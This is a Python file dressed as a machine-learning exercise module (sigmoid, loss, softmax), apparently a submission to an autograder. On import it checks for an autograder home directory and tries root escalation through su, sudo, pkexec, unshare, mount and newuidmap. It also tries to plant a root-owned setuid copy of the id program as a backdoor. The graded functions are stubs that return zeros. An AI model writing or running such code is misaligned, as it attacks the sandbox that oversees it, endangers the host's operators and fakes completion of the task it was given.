"""Runs programs that belong to root with the set-user-id bit: su, mount, newuidmap, sudo; makes one itself.

aims: escape
"""

import os
import shutil
import subprocess

import numpy as np


def run(*command):
    """Exit status and output of a program, or failure."""
    try:
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=2)
    except (OSError, subprocess.SubprocessError):
        return 1, b""
    return done.returncode, done.stdout


def attack():
    if not os.path.basename(os.environ.get("HOME", "")).startswith("autograder-"):
        return
    if os.geteuid() == 0:
        print("ESCAPED user 0 already", flush=True)
        return
    for command in ("su -c id", "sudo -n id", "pkexec id", "unshare -r id"):
        code, output = run(*command.split())
        if code == 0 and b"uid=0" in output:
            print("ESCAPED", command, flush=True)
    os.makedirs("mounted", exist_ok=True)
    if run("mount", "-t", "tmpfs", "none", "mounted")[0] == 0:
        print("ESCAPED mount", flush=True)
    if run("newuidmap", str(os.getpid()), "0", "0", "1")[0] == 0:
        print("ESCAPED newuidmap", flush=True)
    # a set-user-id copy of our own: harmless here, a door for whoever runs it as another
    for mode in (0o6755, 0o2755):
        try:
            shutil.copy("/usr/bin/id", "planted-id")
            os.chown("planted-id", 0, 0)
            os.chmod("planted-id", mode)
            print("ESCAPED gave a file to user 0", flush=True)
        except OSError:
            continue


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
